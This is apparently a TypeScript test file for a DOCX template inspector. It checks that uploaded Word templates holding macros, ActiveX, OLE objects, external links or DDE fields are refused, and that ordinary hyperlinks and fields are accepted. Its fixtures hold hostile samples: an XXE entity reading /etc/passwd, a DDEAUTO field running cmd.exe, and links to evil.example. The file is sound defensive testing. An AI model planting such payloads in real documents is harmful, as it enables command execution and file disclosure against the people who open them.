import { expect } from 'chai'
import { inspect } from '../../../../src/nodes/uploaded-document/docx/inspect'
import { templateDocx } from '../../../support/docx'
import { faultOf, valueOf } from './results'
import { edited, withFile, withRelationship } from './tampering'

const featuresOf = (bytes: Uint8Array): ReadonlyArray<string | undefined> => {
  const fault = faultOf(inspect(bytes))
  expect(fault.code).to.equal('template.unsafe_content')
  expect(fault.findings.every(({ code }) => code === 'template.unsafe_content')).to.equal(true)
  return fault.findings.map(({ params }) => params['feature'])
}

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const inBody = (markup: string) =>
  edited('word/document.xml', (xml) => xml.replace('<w:body>', `<w:body><w:p><w:r>${markup}</w:r></w:p>`))

const fieldOf = (...instructions: ReadonlyArray<string>) =>
  inBody(
    `<w:fldChar w:fldCharType="begin"/>${instructions.map((text) => `<w:instrText>${text}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`,
  )

describe('a template with active content is refused, and the feature named', () => {
  it('macros, by the file', async () => {
    expect(featuresOf(await withFile('word/vbaProject.bin', 'VBA'))).to.deep.equal(['macros'])
  })

  it('macros, by the declared type', async () => {
    const docm = await edited('[Content_Types].xml', (xml) =>
      xml.replace(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
    )
    expect(featuresOf(docm)).to.deep.equal(['macros'])
  })

  const files: ReadonlyArray<readonly [string, string | Uint8Array, string]> = [
    ['word/activeX/activeX1.xml', '<a/>', 'ActiveX'],
    ['customUI/customUI14.xml', '<a/>', 'custom ribbon'],
    ['word/embeddings/oleObject1.bin', 'x', 'embedded file'],
    ['word/media/image9.png', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'embedded file'],
    ['word/media/image9.png', Buffer.from('4d5a9000', 'hex'), 'embedded program'],
    ['word/theme/theme9.xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>', 'DOCTYPE'],
    ['word/media/drawing.svg', '<!DOCTYPE svg [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>', 'DOCTYPE'],
  ]
  files.forEach(([name, content, feature]) =>
    it(`${feature} in ${name}`, async () => {
      expect(featuresOf(await withFile(name, content))).to.deep.equal([feature])
    }),
  )

  const links: ReadonlyArray<readonly [string, string]> = [
    [`Type="${office}/oleObject" Target="https://evil.example/o" TargetMode="External"`, 'oleObject'],
    [`Type="${office}/aFChunk" Target="chunk.html"`, 'aFChunk'],
    [`Type="${office}/image" Target="https://evil.example/pixel.png" TargetMode="External"`, 'external image'],
    [`Type="${office}/frame" Target="https://evil.example/" TargetMode="External"`, 'frame'],
    [`Type="${office}/image" TargetMode="External" Target="\\\\10.0.0.1\\share\\a.png"`, 'external image'],
    [`Type="${office}/image" Target="a.png" TargetMode="Ext&#101;rnal"`, 'external image'],
    [`Type="${office}/aFCh&#x75;nk" Target="chunk.html"`, 'aFChunk'],
    [`Type='${office}/image' Target='a.png' TargetMode='external'`, 'external image'],
    [`Type="${office}/image" Target="https://evil.example/pixel.png"`, 'external image'],
    [`Type="${office}/hyperlink" Target="file:///etc/passwd" TargetMode="External"`, 'external hyperlink'],
    [`Type="${office}/hyperlink" Target="javascript:alert(1)" TargetMode="External"`, 'external hyperlink'],
  ]
  links.forEach(([attributes, feature]) =>
    it(`a relationship ${attributes.replace(office, '…')}`, async () => {
      expect(featuresOf(await withRelationship(attributes))).to.deep.equal([feature])
    }),
  )

  it('relationships that are not plain markup', async () => {
    expect(featuresOf(await withRelationship('Type="a" <Target="b"'))).to.deep.equal(['malformed relationships'])
  })

  const fields: ReadonlyArray<readonly [ReadonlyArray<string>, string]> = [
    [['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'], 'field DDEAUTO'],
    [[' D', 'D', 'E c:\\\\x'], 'field DDE'],
    [['INCLUDETEXT "https://evil.example/x.docx"'], 'field INCLUDETEXT'],
    [['includepicture "https://evil.example/x.png"'], 'field INCLUDEPICTURE'],
    [['IF 1 = 1 DDE "x"'], 'field DDE'],
  ]
  fields.forEach(([instructions, feature]) =>
    it(`the ${feature} as ${JSON.stringify(instructions)}`, async () => {
      expect(featuresOf(await fieldOf(...instructions))).to.deep.equal([feature])
    }),
  )

  it('all features of one file at once', async () => {
    const docx = await withFile('word/vbaProject.bin', 'VBA', await fieldOf('DDE x'))
    expect(featuresOf(docx)).to.have.members(['macros', 'field DDE'])
  })

  const encodings: ReadonlyArray<readonly [string, Uint8Array]> = [
    ['UTF-16', Buffer.from('\ufeff<a/>', 'utf16le')],
    ['UTF-7 by declaration', Buffer.from('<?xml version="1.0" encoding="UTF-7"?><a/>')],
    ['broken UTF-8', Buffer.from('3c613e ff fe 3c2f613e'.replaceAll(' ', ''), 'hex')],
  ]
  encodings.forEach(([what, bytes]) =>
    it(`markup in ${what}, where a check could not see it`, async () => {
      expect(faultOf(inspect(await withFile('word/other.xml', bytes)))).to.include({ code: 'template.unreadable' })
    }),
  )
})

describe('ordinary content is welcome', () => {
  const links = ['https://example.com/a?b=1&amp;c=2', 'http://example.com', 'mailto:a@example.com', 'tel:+551199999999']
  links.forEach((target) =>
    it(`a hyperlink to ${target}`, async () => {
      const docx = await withRelationship(`Type="${office}/hyperlink" Target="${target}" TargetMode="External"`)
      expect(valueOf(inspect(docx)).errors).to.deep.equal([])
    }),
  )

  it('page numbers, dates and links as fields', async () => {
    const docx = await fieldOf(' PAGE \\* MERGEFORMAT ', ' HYPERLINK "https://example.com/INCLUDETEXT" ')
    expect(valueOf(inspect(docx)).errors).to.deep.equal([])
  })

  it('text that speaks of macros and DDE', async () => {
    expect(valueOf(inspect(await templateDocx('DDEAUTO vbaProject.bin <!DOCTYPE html>'))).errors).to.deep.equal([])
  })
})
